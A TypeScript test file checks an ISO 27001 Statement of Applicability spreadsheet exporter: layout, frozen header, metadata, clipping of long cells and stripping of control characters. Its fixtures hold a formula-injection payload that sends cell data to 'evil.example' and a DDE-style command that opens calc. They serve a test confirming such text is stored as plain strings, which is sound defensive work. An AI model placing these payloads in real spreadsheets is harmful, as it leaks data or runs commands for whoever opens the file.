import assert from 'node:assert/strict';
import { test } from 'node:test';
import ExcelJS from 'exceljs';
import type { SoaDocument, SoaRow } from '../contracts/soa.js';
import { renderSoaXlsx, XLSX_MAX_CELL_LENGTH } from './soa-xlsx.js';

const hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Click here")';

function annexA(): SoaRow[] {
  const groups: [string, number][] = [
    ['5 Organizational controls', 37],
    ['6 People controls', 8],
    ['7 Physical controls', 14],
    ['8 Technological controls', 34],
  ];
  return groups.flatMap(([group, count]) =>
    Array.from(
      { length: count },
      (_, i): SoaRow => ({
        ref: `A.${group[0]}.${i + 1}`,
        title: `Control ${group[0]}.${i + 1}`,
        group,
        applicable: true,
        justification: 'Krävs för molntjänsterna i STO1, STO2 och OSL1.',
        implementationStatus: 'implemented',
        controls: [
          { ref: `CTL-${i + 1}`, title: 'Baseline practice', scope: 'Baseline', status: 'implemented' },
        ],
      }),
    ),
  );
}

const doc: SoaDocument = {
  organizationName: 'Nordmoln AB',
  frameworkName: 'ISO/IEC 27001',
  frameworkVersion: '2022',
  serviceName: 'Object Storage',
  generatedAt: '2026-03-01T14:05:09.000Z',
  rows: [
    {
      ref: 'A.5.1',
      title: 'Policies for information security',
      group: '5 Organizational controls',
      applicable: false,
      justification: hostile,
      implementationStatus: 'not-applicable',
      controls: [],
    },
    {
      ref: 'A.8.8',
      title: 'Management of technical vulnerabilities',
      group: '8 Technological controls',
      applicable: null,
      justification: 'Sårbarhetsskanning i Göteborg och Malmö; "kritiska" fynd åtgärdas ø æ',
      implementationStatus: 'in-progress',
      controls: [
        { ref: 'CTL-12', title: 'Vulnerability management', scope: 'Baseline', status: 'implemented' },
        { ref: 'CTL-40', title: "+cmd|' /C calc'!A0", scope: 'Object Storage', status: 'not-started' },
      ],
    },
    ...annexA().slice(0, 3),
  ],
};

async function load(buffer: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(buffer).buffer);
  const sheet = workbook.worksheets[0];
  assert.ok(sheet);
  return sheet;
}

test('title block, header and one row per requirement', async () => {
  const buffer = await renderSoaXlsx(doc);
  assert.equal(buffer.subarray(0, 2).toString('latin1'), 'PK');
  const sheet = await load(buffer);
  assert.equal(sheet.getCell('A1').value, 'Statement of Applicability');
  assert.deepEqual(
    [2, 3, 4, 5].map((r) => [sheet.getCell(r, 1).value, sheet.getCell(r, 2).value]),
    [
      ['Organisation', 'Nordmoln AB'],
      ['Framework', 'ISO/IEC 27001 2022'],
      ['Scope', 'Object Storage'],
      ['Generated', '2026-03-01 14:05 UTC'],
    ],
  );
  const header = sheet.getRow(7);
  assert.deepEqual((header.values as unknown[]).slice(1), [
    'Requirement',
    'Title',
    'Group',
    'Applicable',
    'Justification',
    'Implementation status',
    'Controls',
  ]);
  assert.equal(header.getCell(1).font?.bold, true);
  assert.equal(sheet.lastRow?.number, 7 + doc.rows.length);
  assert.deepEqual((sheet.getRow(9).values as unknown[]).slice(1), [
    'A.8.8',
    'Management of technical vulnerabilities',
    '8 Technological controls',
    'Undecided',
    'Sårbarhetsskanning i Göteborg och Malmö; "kritiska" fynd åtgärdas ø æ',
    'In progress',
    "CTL-12 Vulnerability management (Baseline, implemented)\nCTL-40 +cmd|' /C calc'!A0 (Object Storage, not started)",
  ]);
  assert.equal(sheet.getCell('D8').value, 'No');
  assert.equal(sheet.getCell('F8').value, 'Not applicable');
  assert.equal(sheet.getCell('E9').alignment?.wrapText, true);
  assert.ok((sheet.getColumn(5).width ?? 0) >= 40);
});

test('header row is frozen and filterable', async () => {
  const sheet = await load(await renderSoaXlsx(doc));
  const view = sheet.views[0];
  assert.equal(view?.state, 'frozen');
  assert.equal(view?.state === 'frozen' ? view.ySplit : undefined, 7);
  assert.deepEqual(sheet.autoFilter, 'A7:G12');
});

test('hostile text is stored as a string cell, never as a formula, and is not altered', async () => {
  const sheet = await load(await renderSoaXlsx(doc));
  for (const address of ['E8', 'G9']) {
    const cell = sheet.getCell(address);
    assert.equal(cell.type, ExcelJS.ValueType.String, address);
    assert.equal(cell.formula, undefined, address);
  }
  assert.equal(sheet.getCell('E8').value, hostile);
  let formulas = 0;
  sheet.eachRow((row) =>
    row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas++;
    }),
  );
  assert.equal(formulas, 0);
});

test('workbook properties come from the document, not the clock', async () => {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(new Uint8Array(await renderSoaXlsx(doc)).buffer);
  assert.equal(workbook.creator, 'Tillit');
  assert.equal(workbook.lastModifiedBy, 'Tillit');
  assert.equal(workbook.created.toISOString(), '2026-03-01T14:05:09.000Z');
  assert.equal(workbook.modified.toISOString(), '2026-03-01T14:05:09.000Z');
});

test('a whole Annex A renders, and a cell longer than Excel allows is clipped', async () => {
  const rows = annexA();
  assert.equal(rows.length, 93);
  const long = `${'Lång motivering. '.repeat(3000)}`;
  const first = rows[0];
  assert.ok(first);
  rows[0] = { ...first, justification: long };
  const sheet = await load(await renderSoaXlsx({ ...doc, serviceName: null, rows }));
  assert.equal(sheet.getCell('B4').value, 'Whole organisation');
  assert.equal(sheet.lastRow?.number, 100);
  assert.equal(sheet.getCell('A100').value, 'A.8.34');
  const clipped = String(sheet.getCell('E8').value);
  assert.equal(clipped.length, XLSX_MAX_CELL_LENGTH);
  assert.ok(clipped.endsWith('… [truncated]'));
});

test('control characters that XML cannot carry do not break the file', async () => {
  const first = doc.rows[0];
  assert.ok(first);
  const sheet = await load(
    await renderSoaXlsx({ ...doc, rows: [{ ...first, justification: 'a\u0000b\u0001c\u000bd\te\nf' }] }),
  );
  assert.equal(sheet.getCell('E8').value, 'abcd\te\nf');
});
